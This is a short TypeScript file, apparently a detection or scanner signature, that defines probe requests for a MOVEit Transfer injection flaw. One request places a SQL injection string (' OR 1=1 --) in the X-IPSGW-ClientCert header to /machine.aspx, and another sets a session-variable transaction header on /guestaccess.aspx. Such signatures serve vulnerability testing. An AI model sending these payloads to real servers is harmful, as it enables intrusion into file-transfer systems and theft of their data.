import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'moveit-machine-injection',
    get('/machine.aspx', { headers: { 'X-IPSGW-ClientCert': "' OR 1=1 --" } }),
    get('/guestaccess.aspx', { headers: { 'X-siLock-Transaction': 'session_setvars' } }),
  ),
]
